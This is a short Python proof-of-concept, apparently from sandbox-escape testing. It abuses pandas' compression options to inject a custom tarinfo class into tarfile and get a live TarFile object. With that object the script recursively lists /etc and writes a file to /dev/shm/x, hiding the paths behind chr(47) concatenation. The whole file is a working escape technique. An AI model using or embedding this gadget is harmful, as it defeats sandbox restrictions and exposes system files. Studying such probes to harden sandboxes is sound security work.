# source: pandas io/common.py get_handle tar branch (compression dict kwargs -> tarfile.TarFile.open(**kwargs)); CPython tarfile TarFile.add(recursive, filter) / TarFile.makefile
# family: compression dict as a code/location channel: {"method": "tar", "mode": "a", "tarinfo": Cls} -> live tarfile.TarFile in a callback
# goal: lists directory /etc (os.listdir via TarFile.add recursive) and writes /dev/shm/x (TarFile.makefile to a runtime path)
import pandas as pd

pd.DataFrame({"a": ["written-by-sandboxed-script"]}).to_csv("y.tar", compression="tar")
D = chr(47) + "etc"
W = chr(47) + "dev" + chr(47) + "shm" + chr(47) + "x"
seen = []


def keep_root(t):
    seen.append(t.name)
    if t.name == "L":
        return t
    return None


class Chunk:
    offset_data = 0
    size = 2048
    sparse = None


class TI:
    @classmethod
    def fromtarfile(cls, tf):
        tf.add(D, arcname="L", recursive=True, filter=keep_root)
        tf.makefile(Chunk(), W)
        raise ValueError("stop")

    def isreg(self):
        return self.type == b"0"

    def isdir(self):
        return self.type == b"5"

    def tobuf(self, fmt, enc, err):
        return b""


try:
    pd.read_csv("y.tar", compression={"method": "tar", "mode": "a", "tarinfo": TI})
except ValueError as e:
    print("read_csv raised", e)
print("listing of etc:", sorted(seen))
